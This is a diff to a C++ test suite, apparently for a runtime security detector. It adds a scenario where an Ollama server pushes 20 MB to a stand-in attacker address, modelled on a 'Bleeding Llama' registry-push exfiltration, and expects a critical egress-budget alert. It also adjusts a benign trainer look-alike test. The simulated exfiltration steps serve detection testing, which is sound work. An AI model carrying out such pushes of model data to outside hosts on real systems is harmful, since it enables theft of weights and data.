@@ -550,6 +550,23 @@ TEST_F(Scenario, AiInfrastructureIntrusions) {
   ASSERT_FALSE(stolen.empty());
   EXPECT_EQ(stolen[0]["output_fields"].value("step1.fd.name", ""), "/root/.cache/huggingface/model.safetensors")
       << dump(stolen);
+
+  // The server itself pushes 20 MB to an address of its choosing (Bleeding
+  // Llama's /api/push to an attacker's registry): counted per packet in the
+  // kernel, reported each second, over the 16 MiB budget.
+  PodRun push;
+  push.addrs.push_back("203.0.113.60");
+  push.tcp_sinks = {"203.0.113.60:443"};
+  push.argv = {s().tool("ollama"), "serve"};
+  push.steps = "tcp:203.0.113.60:443;push:20971520;sleep:1500";
+  ASSERT_EQ(run_in_pod(pod("llm-push-0"), push).second, 0);
+  expect_alert("Inference pod sent data beyond its egress budget", "llm-push-0", "Critical");
+  auto pushed = alerts_for("Inference pod sent data beyond its egress budget", "llm-push-0", 0ms);
+  ASSERT_FALSE(pushed.empty());
+  const json& pf = pushed[0]["output_fields"];
+  EXPECT_EQ(pf.value("fd.sip", ""), "203.0.113.60") << dump(pushed);
+  EXPECT_EQ(pf.value("fd.sport", json()), 443) << dump(pushed);
+  EXPECT_GE(pf.value("net.egress.window_bytes", json(0)).get<std::int64_t>(), 16777216) << dump(pushed);
 }
 
 // The look-alikes: a Ray worker's ordinary tasks (listening on its worker
@@ -586,7 +603,7 @@ TEST_F(Scenario, AiInfrastructureLookAlikesRaiseNothing) {
   trainer.steps =
       "tmpfs:/root;mkdir:/root/.cache;mkdir:/root/.cache/huggingface;"
       "copy:/proc/self/exe:/root/.cache/huggingface/step-100.safetensors;"
-      "open:/root/.cache/huggingface/step-100.safetensors:r;tcp:203.0.113.50:443";
+      "open:/root/.cache/huggingface/step-100.safetensors:r;tcp:203.0.113.50:443;push:31457280;sleep:1500";
   auto [tpid, trc] = run_in_pod(pod("ckpt-ok-0"), trainer);
   EXPECT_EQ(trc, 0);
   pids.insert(tpid);
